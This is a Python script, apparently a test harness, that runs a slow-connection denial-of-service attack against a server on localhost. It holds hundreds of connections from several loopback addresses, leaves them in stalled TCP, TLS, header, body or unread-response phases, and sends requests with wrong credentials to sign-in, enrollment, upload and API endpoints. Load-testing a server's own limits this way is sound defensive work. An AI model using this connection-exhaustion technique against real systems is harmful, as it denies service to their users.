"""The attacker, a process of its own: it opens connections, and leaves each in one phase."""

import asyncio
import socket
import ssl
import sys
import time
from base64 import b64encode
from collections import deque
from collections.abc import Mapping
from contextlib import suppress
from enum import StrEnum
from typing import Final

SOURCES: Final = ("127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5")
"""Addresses of the attacker."""

WANTED: Final = 450
"""Connections that it wants: more than the server has places."""

FILL_PER_S: Final = 50.0
"""New connections a second until it has as many as it wants."""

DRIP_S: Final = 3.0
"""Time between two bytes: shorter than each limit for silence."""


class Phase(StrEnum):
    """The state in which it leaves a connection."""

    TCP = "TCP"
    TLS = "TLS"
    HEAD = "head"
    BODY = "body"
    ANSWERED = "answered"
    UNREAD = "unread answer"
    IDLE = "idle"


class Who(StrEnum):
    """The attacker's role."""

    NOBODY = "nobody"
    SELF_SIGNED = "own certificate"
    WRONG_TOKEN = "wrong token"
    DEVICE = "one device"


def _request(line: str, length: int = 0, said: Mapping[str, str] | None = None) -> bytes:
    said = {"Host": "x", "Content-Length": str(length), **(said or {})}
    lines = [f"{name}: {text}" for name, text in said.items()]
    return "\r\n".join([f"{line} HTTP/1.1", *lines, "", ""]).encode()


_BASIC: Final = {
    "Authorization": "Basic " + b64encode(b"van-1:wrong").decode(),
    "Content-Type": "application/pkcs10",
}
_BEARER: Final = {"Authorization": "Bearer wrong", "Content-Type": "application/json"}
_FORM: Final = _request("POST /pages/sign-in", 8000)
_PAGE: Final = _request("GET /pages/sign-in")
_STYLE: Final = _request("GET /pages/style.css")
_FLEET: Final = _request("GET /fleet")
_UPLOAD: Final = _request(
    "PATCH /files/71c344a4-afa0-4039-9d15-c737886a3e43",
    30_000_000,
    {
        "Tus-Resumable": "1.0.0",
        "Upload-Offset": "0",
        "Content-Type": "application/offset+octet-stream",
    },
)

REQUESTS: Final[Mapping[Who, Mapping[Phase, bytes]]] = {
    Who.NOBODY: {Phase.BODY: _FORM, Phase.ANSWERED: _UPLOAD, Phase.IDLE: _PAGE},
    Who.SELF_SIGNED: {Phase.BODY: _FORM, Phase.ANSWERED: _UPLOAD, Phase.IDLE: _PAGE},
    Who.WRONG_TOKEN: {
        Phase.BODY: _request(
            "POST /.well-known/est/simpleenroll",
            16_000,
            _BASIC,
        ),
        Phase.ANSWERED: _request("PUT /api/orders/1", 200_000, _BEARER),
        Phase.IDLE: _request("GET /api/outcomes", 0, _BEARER),
    },
    Who.DEVICE: {
        Phase.BODY: _request("POST /receipts", 16_000),
        Phase.ANSWERED: _request("POST /nowhere", 16_000),
        Phase.IDLE: _FLEET,
    },
}
"""Request that leads to a phase; the others need none, or several."""


class Attacker:
    """Connections to one port, in one phase.

    Args:
        files: certificate and key to show, if any.
    """

    def __init__(self, port: int, who: Who, phase: Phase, files: list[str]) -> None:
        self._port = port
        self._who = who
        self._phase = phase
        self._tls = ssl.create_default_context()
        self._tls.check_hostname, self._tls.verify_mode = False, ssl.CERT_NONE
        if files:
            self._tls.load_cert_chain(*files)
        self._tasks: deque[asyncio.Task[None]] = deque()

    async def refill(self, per_s: float, *, renew: bool) -> None:
        """Open connections for ever; without `renew`, only in place of those that ended."""
        due_s = time.monotonic()
        for number in range(1_000_000):
            due_s += 1 / (per_s if renew or number >= WANTED else FILL_PER_S)
            await asyncio.sleep(due_s - time.monotonic())
            self._tasks = deque(one for one in self._tasks if not one.done())
            if len(self._tasks) >= WANTED:
                if not renew:
                    continue
                self._tasks.popleft().cancel()
            source = SOURCES[number % len(SOURCES)]
            self._tasks.append(asyncio.create_task(self._hold(source)))

    async def _hold(self, source: str) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            is_tls = self._phase not in {Phase.TCP, Phase.TLS}
            line = socket.socket()
            line.setblocking(False)
            if self._phase is Phase.UNREAD:
                line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.bind((source, 0))
            await asyncio.get_running_loop().sock_connect(line, ("127.0.0.1", self._port))
            tls, name = (self._tls, "127.0.0.1") if is_tls else (None, None)
            reader, writer = await asyncio.open_connection(
                sock=line, ssl=tls, server_hostname=name, limit=1024
            )
            try:
                await self._reach(writer)
                dripping = asyncio.create_task(self._drip(writer))
                if self._phase is Phase.UNREAD:
                    await dripping
                while await reader.read(65_536):
                    pass
                dripping.cancel()
            finally:
                writer.transport.abort()

    async def _reach(self, writer: asyncio.StreamWriter) -> None:
        match self._phase:
            case Phase.TCP:
                pass
            case Phase.TLS:
                writer.write(self._client_hello()[:-1])
            case Phase.HEAD:
                writer.write(b"GET /fleet HTTP/1.1\r\nHost: x\r\nX: ")
            case Phase.UNREAD:
                writer.write((_FLEET if self._who is Who.DEVICE else _STYLE) * 10)
            case _:
                writer.write(REQUESTS[self._who][self._phase])

    async def _drip(self, writer: asyncio.StreamWriter) -> None:
        drips = self._phase in {Phase.HEAD, Phase.BODY, Phase.ANSWERED}
        while not writer.is_closing():
            await asyncio.sleep(DRIP_S)
            if drips:
                writer.write(b"x")

    def _client_hello(self) -> bytes:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        with suppress(ssl.SSLWantReadError):
            self._tls.wrap_bio(incoming, outgoing).do_handshake()
        return outgoing.read()


def main() -> None:
    """Attack: PORT, WHO, PHASE, connections a second, whether it renews, and files."""
    port, who, phase, per_s, renew, *files = sys.argv[1:]
    attacker = Attacker(int(port), Who(who), Phase(phase), files)
    asyncio.run(attacker.refill(float(per_s), renew=renew == "renew"))


if __name__ == "__main__":
    main()
